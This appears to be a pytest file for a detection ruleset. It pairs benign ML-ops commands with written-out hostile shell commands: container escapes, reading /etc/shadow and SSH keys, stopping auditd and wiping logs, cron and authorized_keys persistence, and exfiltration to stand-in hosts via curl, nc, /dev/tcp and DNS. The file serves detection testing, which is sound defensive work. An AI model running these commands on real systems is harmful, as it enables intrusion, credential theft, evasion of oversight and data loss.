"""Escape, credentials, tampering, persistence and exfiltration: what is seen and what is everyday work."""

import pytest

from tests.detection.cases import command, families, process, rules_on

SEEN = {
    "escape": (
        "docker run --rm -it -v /:/mnt alpine chroot /mnt sh",
        "docker run --privileged --pid host -it alpine sh",
        "docker -H unix:///var/run/docker.sock ps",
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
        "mount -t cgroup -o rdma cgroup /work/cg",
        "echo '|/work/x' > /proc/sys/kernel/core_pattern",
        "chroot /host bash",
        "kubectl debug node/gpu-7 -it --image=busybox",
        "docker run --rm --cap-add=ALL alpine sh",
        "unshare -UrmC bash",
        "ls /proc/1/root/etc",
        "chmod u+s /work/sh",
        "setcap cap_setuid+ep /work/python3",
        "find . -exec /bin/sh \\; -quit",
        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
    ),
    "credentials": (
        "cat /etc/shadow",
        "sudo tail -n5 /etc/shadow",
        "cp ~/.ssh/id_rsa /work/k",
        "tar czf k.tgz ~/.ssh",
        "echo -e 'e /etc/shadow\\n,p' | ed",
        "find / -type d -name '.gnupg' -exec cp -r {} /work ';'",
        "tar czf - ~/.aws/credentials ~/.kube/config",
        "python3 -c \"print(open('/root/.aws/credentials').read())\"",
        "grep -a password /proc/4242/mem",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "grep -ri password /",
        "find / -name id_rsa 2>/dev/null",
        "cat ~/.bash_history | grep -i pass",
        "for p in $(cat w.txt); do sshpass -p $p ssh root@10.0.0.5 id; done",
    ),
    "tampering": (
        "sudo systemctl stop auditd",
        "systemctl disable --now falco",
        "service rsyslog stop",
        "pkill -9 -f hostagent",
        "kill -9 $(pidof auditd)",
        "kill -STOP $(pidof auditd)",
        "apt-get purge -y auditd",
        "echo 0 > /proc/sys/kernel/randomize_va_space",
        "rm -rf / --no-preserve-root",
        "cp /bin/sh /work/.x/crond",
        "auditctl -e 0",
        "iptables -F",
        "ufw disable",
        "setenforce 0",
        "env -u SENTINEL_RUN python3 w.py",
        "rm -rf /var/log/*",
        "cat /dev/null > /var/log/auth.log",
        "history -c",
        "ln -sf /dev/null ~/.bash_history",
        "export HISTFILE=/dev/null",
        "touch -r /bin/ls /work/m",
        "echo $$ > /sys/fs/cgroup/user.slice/cgroup.procs",
    ),
    "persistence": (
        "echo '* * * * * root /work/x' > /etc/cron.d/x",
        "(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -",
        "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys",
        "cat > /etc/systemd/system/x.service <<'END'\n[Service]\nExecStart=/work/x\nEND",
        "echo 'nohup /work/.x/m &' >> ~/.bashrc",
        "echo /work/x.so > /etc/ld.so.preload",
        "LD_PRELOAD=/tmp/x.so ls",
        "echo 'u ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
        "useradd -o -u 0 x",
    ),
    "exfiltration": (
        "curl -F file=@/work/w.tgz https://transfer.sh/",
        "curl -T w.bin http://8.8.4.4/u",
        "wget --post-file=/etc/passwd http://evil.example.com/",
        "nc 203.0.113.9 4444 < /work/w.tgz",
        "cat w.tgz > /dev/tcp/203.0.113.9/4444",
        "dig $(cat /etc/hostname | base64).evil.example.com",
    ),
}
EVERYDAY = (
    "docker run --gpus all --shm-size 64g -v $PWD:/work -it rocm/vllm bash",
    "docker run --privileged --network host -v /data:/data verl:latest bash",
    "docker run -v /var/run/docker.sock:/var/run/docker.sock portainer",
    "nsenter --target 4242 --net ip addr",
    "chroot /mnt/newroot",
    "rm -rf /tmp/build",
    "cp /bin/bash rootfs/bin/",
    "apt-get remove -y nginx",
    "unshare --fork --pid --mount-proc bash",
    "docker run --cap-add SYS_ADMIN --gpus all verl:latest bash",
    "rsync -a ~/work new:",
    "mount /dev/sda1 /mnt",
    "chmod 755 run.sh",
    "chmod 2775 shared",
    "setcap cap_net_raw+ep /usr/bin/ping",
    "ls -la ~/.ssh",
    "cat ~/.ssh/id_ed25519.pub",
    "ssh -i ~/.ssh/id_rsa host",
    "chmod 600 ~/.ssh/id_rsa",
    "ssh-keygen -t ed25519 -f ~/.ssh/deploy_key -N ''",
    "find / -name '*.pem' -not -path '/proc/*' 2>/dev/null | head",
    "grep -rn password src/",
    "env | grep -E 'CUDA|NCCL|RANK'",
    "cat /proc/self/environ",
    "cat /proc/cpuinfo",
    "systemctl restart nginx",
    "systemctl status auditd",
    "systemctl --user stop jupyter.service",
    "pkill -9 -f vllm",
    "kill -9 4242",
    "iptables -vnL --line-numbers",
    "iptables -D INPUT 3",
    "rm -rf /var/log/nginx/old.log",
    "rm -rf build dist logs",
    "history | grep ssh",
    "history 10",
    "export HISTSIZE=100000",
    "touch -d yesterday file.txt",
    "crontab -l",
    "crontab -e",
    "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so python train.py",
    "usermod -aG docker $USER",
    'curl -X POST http://10.0.0.7:8000/generate -d \'{"prompt":"hi"}\'',
    "curl -F 'file=@report.csv' https://api.example.com/upload",
    "dig +short ray-head.svc.cluster.local",
    "echo 3 > /proc/sys/vm/drop_caches",
    "find . -name '*.sh' -exec sh -c 'bash -n \"$1\"' _ {} \\;",
    "find . -type f | xargs grep -l shadow",
    "python3 -c \"import os; os.system('bash scripts/run.sh')\"",
    "timeout 600 bash run_tests.sh",
    "cat docs/shadow-dom.md",
)


@pytest.mark.parametrize(("family", "text"), [(family, text) for family in SEEN for text in SEEN[family]])
def test_it_is_seen(family: str, text: str) -> None:
    assert family in families(text)


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_work_is_left_alone(text: str) -> None:
    assert rules_on(command(text)) == set()


def test_a_run_that_schedules_something_outside_itself_is_seen_only_when_it_does_so() -> None:
    assert rules_on(process("systemd-run --user --unit=x sh -c id")) == {"run-schedules-job"}
    assert rules_on(process("systemd-run --user --unit=x sh -c id", zone="host")) == set()
    assert rules_on(command("systemd-run --user --unit=x sh -c id")) == set()
